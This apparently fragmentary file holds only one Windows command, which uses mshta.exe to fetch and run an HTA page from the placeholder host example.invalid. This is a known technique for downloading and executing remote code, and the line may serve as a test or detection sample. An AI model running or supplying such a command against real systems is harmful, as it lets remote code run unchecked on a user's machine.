start "" mshta.exe http://example.invalid/page.hta
